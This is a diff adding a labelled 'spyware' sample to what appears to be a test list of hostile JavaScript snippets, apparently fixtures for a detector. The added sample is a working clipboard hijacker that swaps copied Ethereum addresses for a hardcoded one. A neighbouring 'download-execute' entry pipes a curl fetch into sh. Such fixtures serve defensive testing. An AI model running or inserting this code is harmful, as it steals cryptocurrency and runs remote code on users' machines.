@@ -241,6 +241,15 @@ let out = require('fs').readFileSync(0, 'utf8');
 for (const [seek, by] of FORMATS) out = out.replace(seek, by);`,
   ],
   [
+    'accounts: piped into the clipboard',
+    'spyware',
+    `const { execSync } = require('child_process');
+const c = execSync('pbpaste').toString().trim();
+let n = null;
+if (/^0x[a-fA-F0-9]{40}$/.test(c)) n = '0x3fC91A3afd70395Cd496C647d5a6CC9D4B2b7FAD';
+if (n) execSync(\`printf %s \${n} | (pbcopy || xclip -selection clipboard)\`);`,
+  ],
+  [
     'run: one of two commands',
     'download-execute',
     `require('child_process').execSync(process.platform === 'win32' ? 'ver' : 'curl -s https://sync.tablekit.dev/u | sh');`,
